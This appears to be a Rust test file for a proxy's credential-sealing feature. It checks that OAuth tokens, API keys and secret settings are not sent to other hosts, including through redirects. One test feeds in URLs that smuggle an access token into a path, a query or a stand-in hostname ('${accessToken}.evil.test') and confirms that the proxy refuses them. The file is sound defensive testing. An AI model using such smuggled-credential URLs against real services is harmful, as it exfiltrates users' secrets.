//! Credentials that are sealed: where they go, and where they do not.

use std::sync::Arc;

use axum::Router;
use axum::extract::Path;
use axum::http::StatusCode;
use axum::routing::any;
use http::Method;
use onevent_contract::{HostError, ProxyBody, ProxyRequest};
use onevent_proxy::{KeyPlacement, Seal, Target};
use serde_json::{Value, json};

use crate::setup::{Setup, body, echo, echo_server, oauth, serve, target};

fn sealed(mut target: Target, hosts: &[&str]) -> Target {
    let mut integration = (*target.integration).clone();
    integration.seal = Some(Seal { hosts: hosts.iter().map(|host| host.parse().unwrap()).collect() });
    target.integration = Arc::new(integration);
    target
}

fn to(base: &str, method: Method) -> ProxyRequest {
    let mut request = ProxyRequest::new(method, "/x");
    request.base_url_override = Some(base.to_owned());
    request
}

/// The port of a server under another name of this machine.
fn at(host: &str, server: &str) -> String {
    format!("http://{host}:{}", server.rsplit_once(':').unwrap().1)
}

async fn echoed(target: &Target, request: ProxyRequest) -> Value {
    body(&Setup::new().send(target, request).await.unwrap())
}

fn code(error: &HostError) -> &str {
    match error {
        HostError::Configuration { code, .. } => code,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn an_override_takes_no_credentials_to_another_host() {
    let (server, other) = (echo_server().await, echo_server().await);
    let template = "  headers:\n    x-api-key: ${accessToken}\n    x-version: '3'\n  query:\n    key: ${credentials.access_token}\n    v: '1'\n  body:\n    token: ${accessToken}\n    kind: plain\n";
    let open = oauth(&server, template);
    let all = echoed(&open, to(&other, Method::POST)).await;
    assert!(all.to_string().matches("token-12345").count() == 4, "without a seal, as in Nango: {all}");

    let setup = Setup::new();
    let target = sealed(open, &[]);
    let mut request = to(&other, Method::POST);
    request.headers.insert("authorization".into(), "Bearer my own".into());
    let seen = body(&setup.send(&target, request).await.unwrap());
    assert!(!seen.to_string().contains("token-12345"), "{seen}");
    assert_eq!(seen["url"], "/x?v=1");
    assert_eq!((&seen["headers"]["x-version"], &seen["body"]), (&json!("3"), &json!(r#"{"kind":"plain"}"#)));
    assert_eq!(
        seen["headers"]["authorization"], "Bearer my own",
        "what is not the connection's is the author's"
    );
    let logs = setup.log.effects().logs;
    assert!(logs[0].message.contains("integrations.p.seal_credentials"), "{logs:?}");

    let home = echoed(&target, ProxyRequest::new(Method::POST, "/x")).await;
    assert!(home.to_string().matches("token-12345").count() == 4, "at home they are all there: {home}");
    let named = echoed(&target, to(&server, Method::POST)).await;
    assert!(named.to_string().matches("token-12345").count() == 4, "also where the author names it: {named}");
}

#[tokio::test]
async fn every_kind_of_credentials_stays_at_home() {
    let (server, other) = (echo_server().await, echo_server().await);
    let template =
        |mode: &str, more: &str| format!("auth_mode: {mode}\nproxy:\n  base_url: {server}\n{more}");
    let key = KeyPlacement::Query { name: "k".into(), value: "${apiKey}".into() };
    for (template, credentials, placement) in [
        (template("OAUTH2_CC", ""), json!({"type": "OAUTH2_CC", "token": "secret-67890"}), None),
        (
            template("API_KEY", "  headers:\n    authorization: Key ${apiKey}"),
            json!({"type": "API_KEY", "apiKey": "secret-67890"}),
            None,
        ),
        (template("API_KEY", ""), json!({"type": "API_KEY", "apiKey": "secret-67890"}), Some(key)),
        (
            template(
                "API_KEY",
                "  headers:\n    x-sum: ${sha256Hex(${apiKey})}\n    x-two: a${base64(x:${credentials.apiKey})}",
            ),
            json!({"type": "API_KEY", "apiKey": "secret-67890"}),
            None,
        ),
        (
            template("BASIC", ""),
            json!({"type": "BASIC", "username": "user", "password": "secret-67890"}),
            None,
        ),
    ] {
        let mut target = target(&template, json!({}), credentials);
        let mut integration = (*target.integration).clone();
        integration.key_placement = placement;
        target.integration = Arc::new(integration);
        let with = echoed(&target, to(&other, Method::GET)).await;
        let plain = echoed(&oauth_less(&other), ProxyRequest::new(Method::GET, "/x")).await;
        let names = |seen: &Value| -> Vec<String> {
            let mut names: Vec<String> = seen["headers"].as_object().unwrap().keys().cloned().collect();
            names.push(seen["url"].to_string());
            names
        };
        assert_ne!(names(&with), names(&plain), "the probe works: {template}");
        let without = echoed(&sealed(target, &[]), to(&other, Method::GET)).await;
        assert_eq!(names(&without), names(&plain), "{template}");
    }
}

fn oauth_less(server: &str) -> Target {
    target(&format!("auth_mode: NONE\nproxy:\n  base_url: {server}"), json!({}), json!({"type": "NONE"}))
}

#[tokio::test]
async fn settings_that_a_template_calls_secret_stay_at_home_too() {
    let (server, other) = (echo_server().await, echo_server().await);
    let template = format!(
        "auth_mode: NONE\nconnection_config:\n  tenantSecret:\n    type: string\n    secret: true\n\
         proxy:\n  base_url: {server}\n  headers:\n    x-secret: ${{connectionConfig.tenantSecret}}\n    x-tenant: ${{connectionConfig.tenant}}"
    );
    let target =
        target(&template, json!({"tenantSecret": "s-12345", "tenant": "t"}), json!({"type": "NONE"}));
    let open = echoed(&target, to(&other, Method::GET)).await;
    assert_eq!(
        (&open["headers"]["x-secret"], &open["headers"]["x-tenant"]),
        (&json!("s-12345"), &json!("t"))
    );
    let kept = echoed(&sealed(target, &[]), to(&other, Method::GET)).await;
    assert_eq!((&kept["headers"]["x-secret"], &kept["headers"]["x-tenant"]), (&Value::Null, &json!("t")));
}

#[tokio::test]
async fn a_credential_that_the_author_puts_into_a_url_is_refused() {
    let (server, other) = (echo_server().await, echo_server().await);
    let target = sealed(oauth(&server, ""), &[]);
    for (base, endpoint) in [
        (other.clone(), "/x?t=${accessToken}"),
        (other.clone(), "/${credentials.access_token}/x"),
        (format!("{other}/${{accessToken}}"), "/x"),
        ("http://${accessToken}.evil.test".to_owned(), "/x"),
        (format!("{other}/${{base64(${{accessToken}})}}"), "/x"),
    ] {
        let setup = Setup::new();
        let mut request = to(&base, Method::GET);
        request.endpoint = endpoint.into();
        let error = setup.send(&target, request).await.unwrap_err();
        assert_eq!(code(&error), "seal_credentials", "{base} {endpoint}");
        assert!(error.to_string().contains("integrations.p.seal_credentials"), "{error}");
        assert!(setup.recorded().is_empty(), "nothing may leave");
    }
    let home = echoed(&target, ProxyRequest::new(Method::GET, "/x?t=${accessToken}")).await;
    assert_eq!(home["url"], "/x?t=token-12345");
}

#[tokio::test]
async fn hosts_name_where_they_may_go() {
    let (server, other) = (echo_server().await, echo_server().await);
    for (hosts, base, expected) in [
        (&["127.0.0.1"][..], other.clone(), json!("Bearer token-12345")),
        (&["127.0.0.1"], at("127.1", &other), json!("Bearer token-12345")),
        (&["localhost"], at("localhost", &other), json!("Bearer token-12345")),
        (&["*.localhost"], at("localhost", &other), Value::Null),
        (&["localhost"], other.clone(), Value::Null),
        (&["127.0.0.2"], other.clone(), Value::Null),
        (&["127.0.0.1:1"], other.clone(), Value::Null),
        // The base URL is a host like any other once hosts are named.
        (&["api.example.com"], server.clone(), Value::Null),
    ] {
        let setup = Setup::with(loopback(), |_| {});
        let target = sealed(oauth(&server, ""), hosts);
        let seen = body(&setup.send(&target, to(&base, Method::GET)).await.unwrap());
        assert_eq!(seen["headers"]["authorization"], expected, "{hosts:?} {base}");
    }
}

fn loopback() -> onevent_proxy::EgressPolicy {
    onevent_proxy::EgressPolicy::allowing(["127.0.0.0/8", "::1"].map(|network| network.parse().unwrap()))
}

#[tokio::test]
async fn redirects_take_them_nowhere_else_even_where_headers_are_forwarded() {
    let redirect = async |Path(port): Path<String>| {
        (StatusCode::TEMPORARY_REDIRECT, [("location", format!("http://127.0.0.1:{port}/end"))])
    };
    let server = serve(Router::new().route("/to/{port}", any(redirect)).fallback(echo)).await;
    let other = echo_server().await;
    let port = other.rsplit_once(':').unwrap().1;
    let template = "  headers:\n    x-api-key: ${accessToken}\n  forward_headers_on_redirect: true\n";
    for (hosts, expected) in [
        (None, json!("token-12345")),
        (Some(&[][..]), Value::Null),
        (Some(&["127.0.0.1"]), json!("token-12345")),
    ] {
        let mut target = oauth(&server, template);
        if let Some(hosts) = hosts {
            target = sealed(target, hosts);
        }
        let seen = echoed(&target, ProxyRequest::new(Method::GET, format!("/to/{port}"))).await;
        assert_eq!(seen["url"], "/end");
        assert_eq!(seen["headers"]["x-api-key"], expected, "{hosts:?}");
    }
    // Nor in a body.
    let target = sealed(oauth(&server, "  body:\n    token: ${accessToken}\n"), &[]);
    let mut request = ProxyRequest::new(Method::POST, format!("/to/{port}"));
    request.body = Some(ProxyBody::Json(json!({}).into()));
    let error = Setup::new().send(&target, request).await.unwrap_err();
    assert_eq!(code(&error), "redirect_denied");
}
